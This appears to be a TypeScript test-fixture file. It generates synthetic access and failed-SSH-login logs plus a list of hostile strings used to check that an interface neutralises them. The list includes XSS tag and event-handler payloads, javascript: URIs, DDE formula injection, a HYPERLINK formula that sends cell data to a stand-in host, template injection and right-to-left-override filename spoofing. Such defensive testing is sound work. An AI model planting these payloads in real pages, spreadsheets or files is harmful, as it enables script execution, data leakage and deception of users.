// What the tests send: made here, nothing taken from anywhere.

/** Visits of the last three hours, one a second. */
export function visits(count = 3_000): object[] {
  const now = Date.now();
  const doors = ["north", "south", "east", "west"];
  return Array.from({ length: count }, (_, index) => ({
    TimeGenerated: new Date(now - (count - index) * 3_600).toISOString(),
    Door: doors[index % doors.length],
    Seconds: (index * 37) % 101,
    Badge: { holder: `person ${index % 50}`, level: index % 5, doors: [doors[index % 4], doors[(index + 1) % 4]] },
  }));
}

/** Wrong passwords that the starter rules speak up about. */
export function refusedPasswords(): object[] {
  const now = Date.now();
  return Array.from({ length: 20 }, (_, index) => ({
    TimeGenerated: new Date(now - index * 1_000).toISOString(),
    Computer: "bastion",
    Facility: "auth",
    SeverityLevel: "info",
    ProcessName: "sshd",
    SyslogMessage: `Failed password for invalid user guest${index} from 192.0.2.${index} port ${4000 + index} ssh2`,
  }));
}

const controls = Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`);
const directions = ["\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u061c"];
const tags = ["script", "img", "svg", "iframe", "object", "embed", "style", "link", "meta", "base", "form", "math", "video", "details"];
const events = [
  "onbeforeunload", "oncut", "ondrag", "onhashchange", "onmessage", "onwheel","onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter"];
const schemes = ["javascript:", "JaVaScRiPt:", "data:text/html,", "vbscript:", "java\tscript:", "\u0001javascript:"];
const formulas = ["=", "+", "-", "@", "\t=", "\r="];
const breakouts = ['"', "'", "`", "</script>", "-->", "]]>", "*/", "\\", "${", "{{", "{%", "<%"];
const done = "window.__executed=1";

/** Strings of attackers: none of them may run, change the page's layout order, or leave as a formula. */
export const HOSTILE: string[] = [
  ...tags.map((tag) => `<${tag} src=x href=x>${done}</${tag}>`),
  ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="${done}" src=x autofocus>`)),
  ...tags.flatMap((tag) => breakouts.map((breakout) => `${breakout}><${tag} onerror=${done} src=x>`)),
  ...schemes.flatMap((scheme) => [`${scheme}${done}`, `<a href="${scheme}${done}">x</a>`, `[x](${scheme}${done})`, `![x](${scheme}${done})`]),
  ...formulas.flatMap((mark) => [`${mark}cmd|'/c calc'!A0`, `${mark}HYPERLINK("http://192.0.2.1/?"&A1)`, `${mark}1+1`]),
  ...controls,
  ...directions.map((mark) => `invoice${mark}gpj.exe`),
  ...Array.from({ length: 24 }, (_, code) => `\u001b[${30 + code}mcolour\u001b[0m\u001b]0;title\u0007`),
  ...breakouts.map((breakout) => `constructor${breakout}constructor("${done}")()`),
  "{{constructor.constructor('window.__executed=1')()}}",
  "{b}: {c} {a|x}",
  "__proto__",
  "\ufeffbom", "zero\u200bwidth", "soft\u00adhyphen", "nul\u0000byte", "\u2028line", "\u2029paragraph",
  "Z\u0351\u036b\u0343a\u0363\u0343l\u036fg\u0365o\u0342",
  "\u{e0041}tag", "👩‍👩‍👧‍👦", "long ".repeat(2_000),
];
